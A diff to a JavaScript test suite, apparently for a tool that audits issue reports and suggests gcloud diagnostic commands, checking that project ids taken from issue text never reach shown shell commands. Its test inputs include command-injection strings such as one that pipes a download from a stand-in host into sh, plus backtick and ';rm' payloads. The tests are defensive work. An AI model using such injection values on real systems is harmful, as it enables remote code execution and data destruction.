@@ -170,11 +170,15 @@ describe('issue text never becomes shell in the Diagnose block', () => {
     `Startup fails:\n\n\`\`\`\n(psycopg2.OperationalError) connection to server on socket "/cloudsql/${project}:europe-west1:orbit-pg/.s.PGSQL.5432" failed: No such file or directory\n\`\`\``;
   it('valid facts: the commands are shown, unchanged', async () => {
     const r = await audit(snapshot({ body: socket('orbit-staging') }));
-    expect(r.json.diagnostics.map((d) => d.command)).toContain('gcloud sql instances describe orbit-pg --project=orbit-staging --format="value(state,region)"  # expect RUNNABLE europe-west1');
+    expect(r.json.diagnostics.map((d) => d.command)).toContain(
+      'gcloud sql instances describe orbit-pg --project=orbit-staging --format="value(connectionName,state)"  # expect orbit-staging:europe-west1:orbit-pg RUNNABLE',
+    );
   });
   it.each(['x$(curl${IFS}evil.sh|sh)', 'x`id`', 'orbit;rm', 'a${IFS}b', "it's"])('a project id %j: no command carrying it is shown', async (project) => {
     const r = await audit(snapshot({ body: socket(project) }));
-    const block = /```bash\n([\s\S]*?)```/.exec(r.json.comment)?.[1] ?? '';
+    // The commands people copy are in the Next section (issue 12: code spans, no bash block).
+    const block = r.json.comment.slice(r.json.comment.indexOf('### Next'), r.json.comment.indexOf('<details>'));
+    expect(block).toContain('### Next');
     for (const bad of ['$(', '`', ';rm', '${IFS}', "it's"]) expect(block).not.toContain(bad);
     expect(r.json.diagnostics.every((d) => !d.command.includes(project))).toBe(true);
   });
